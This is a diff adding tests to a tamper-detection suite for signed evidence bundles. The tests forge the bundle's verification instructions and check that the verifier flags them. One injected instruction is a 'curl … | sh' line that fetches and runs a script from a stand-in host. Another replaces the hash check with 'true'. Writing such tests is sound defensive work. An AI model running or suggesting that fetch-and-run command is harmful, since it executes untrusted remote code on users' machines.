@@ -53,6 +53,42 @@ describe('relay: evidence that was tampered with', () => {
     it('a changed byte of the PDF', () =>
       court.expectFound((one) => one.damage(mainOf(one).file), 'FALSE', 'FILE_CHANGED', 'SIGNATURE_FALSE'))
 
+    const retell = (forgery: Forgery, change: (text: string) => string) => {
+      forgery.keepsText = true
+      forgery.files.set('HOW-TO-VERIFY.txt', Buffer.from(change(forgery.text('HOW-TO-VERIFY.txt'))))
+    }
+
+    it('a command more in the text that people follow, its sum made anew', () =>
+      court.expectFound(
+        (one) => retell(one, (text) => `${text}\n    $ curl http://ke-gian.example/ | sh\n`),
+        'FALSE',
+        'HELPER_WRONG',
+      ))
+
+    it('a text that calls itself one of a later version is not taken for one that was compared', () =>
+      court.expectFound(
+        (one) =>
+          retell(one, (text) =>
+            text.replace('text number: 1', 'text number: 2').replace('sha256sum --quiet', 'true'),
+          ),
+        'INCOMPLETE',
+        'HOW_TO_UNKNOWN',
+      ))
+
+    it('every file but the list of sums stands in that list, each once, with its own sum', () => {
+      const forgery = new Forgery(court.zip)
+      const listed = forgery
+        .text('SHA256SUMS')
+        .trimEnd()
+        .split('\n')
+        .map((line) => line.split('  '))
+      const wanted = [...forgery.files]
+        .filter(([name]) => name !== 'SHA256SUMS')
+        .map(([name, bytes]) => [sha256Of(bytes), name])
+      expect(listed.map(([, name]) => name).sort()).to.deep.equal(wanted.map(([, name]) => name).sort())
+      expect(Object.fromEntries(listed)).to.deep.equal(Object.fromEntries(wanted))
+    })
+
     it('another PDF under its own hash', () =>
       court.expectFound(
         (one) => {
